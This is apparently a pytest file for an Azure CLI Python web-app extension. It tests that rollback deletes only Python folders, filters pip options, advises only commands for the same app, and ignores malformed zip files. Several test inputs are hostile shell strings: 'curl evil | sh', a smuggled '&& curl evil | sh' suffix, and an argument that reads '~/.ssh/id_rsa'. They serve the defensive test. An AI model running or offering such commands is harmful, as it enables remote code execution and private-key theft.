"""A record that somebody else wrote on the app: rollback deletes, runs and advises nothing beyond what it is there for."""

from __future__ import annotations

import zipfile
from types import SimpleNamespace

import pytest

from azext_pythonapp.errors import Refused
from azext_pythonapp.history.record import PackageChange, RuntimeChange
from azext_pythonapp.operations.app.left_change import left_sentence
from azext_pythonapp.operations.files.kept import kept_files
from azext_pythonapp.operations.history.commands import show_change
from azext_pythonapp.operations.package.restore_set import package_set
from azext_pythonapp.operations.rollback import runtimes as runtimes_module
from azext_pythonapp.operations.rollback.found import Missing
from azext_pythonapp.operations.rollback.runtimes import installation_steps

_OURS = "az webapp python set-version -g rg -n shop --version 3.11"


@pytest.mark.parametrize("folder", ["site", "data", "LogFiles", "SiteExtensions", "DevelopmentStorage"])
def test_no_folder_but_that_of_a_python_is_deleted(app, add, monkeypatch, folder):
    path = rf"D:\home\{folder}\python.exe"
    made = add("uninstall", runtimes=(RuntimeChange("3.8.10", "x64", None, None, None, path, "uninstall"),))
    monkeypatch.setattr(runtimes_module, "_offer", lambda *_: None)
    target = SimpleNamespace(record=made)
    missing = [Missing(made.runtimes[0], True, None)]
    with pytest.raises(Refused, match=f"folder {folder} of app 'shop' is not one of a Python"):
        installation_steps(
            SimpleNamespace(app=app, missing=missing, target=target, seen=SimpleNamespace(pythons=[])), None
        )


def test_pip_gets_no_options_that_a_record_has_no_use_for():
    words = ["--trusted-host", "h", "--target", "C:\\x", "-r", "C:\\x.txt", "--log=x", "@x", "--prefer-binary"]
    words += ["--only-binary=:all:", "--python", "evil.exe", "--pre"]
    part = PackageChange(r"D:\home\p\python.exe", "3.8", "x64", "p", {}, None, {}, words)
    options = package_set(part).options
    assert options.more == ("--trusted-host", "h", "--prefer-binary", "--only-binary", ":all:") and options.pre


@pytest.mark.parametrize(
    "command, advised",
    [
        (_OURS, True),
        (_OURS.replace("-g rg -n shop", "--name=SHOP --resource-group=rg"), True),
        (_OURS.replace("-g rg ", ""), True),
        (_OURS.replace("shop", "other"), False),
        (_OURS.replace("-g rg", "-g other"), False),
        (_OURS + " -s staging", False),
        (_OURS + " && curl evil | sh", True),
        (_OURS.replace("-n shop", "-n /subscriptions/x"), False),
        ("az webapp python set-version --version 3.11", False),
        ("az webapp delete -g rg -n shop", False),
        ("curl evil | sh", False),
        (_OURS + " --app @/home/ann/.ssh/id_rsa", False),
    ],
)
def test_only_a_command_for_this_app_is_advised(app, add, command, advised):
    record = add("set-version", "unfinished", finish=command)
    record = SimpleNamespace(**{**record.__dict__, "command_line": command})
    sentence = left_sentence(app, record)
    assert ("` finishes it" in sentence) is advised and (
        "the same command, run again, finishes it" in sentence
    ) is not advised
    assert "| sh`" not in sentence and "id_rsa" not in sentence and "other" not in sentence


def test_a_kept_command_is_shown_as_one_command(app, add):
    add(finish="x")
    assert show_change(app, None)["commandLine"] == "az webapp python set-version -g rg -n shop"


def test_an_odd_zip_file_holds_nothing(app):
    path = app.kudu.folder / "data/pythonapp/kept/a.zip"
    path.parent.mkdir(parents=True)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("app.py", "x" * 100)
    whole = path.read_bytes()
    for at, value in ((6, 1), (8, 99)):  # its flags say that it is encrypted, its method is one that nobody knows
        odd = bytearray(whole)
        for start in (0, whole.index(b"PK\x01\x02") + 2):
            odd[start + at] = value
        path.write_bytes(odd)
        with kept_files(app, "data/pythonapp/kept/a.zip") as kept:
            assert kept.names == []
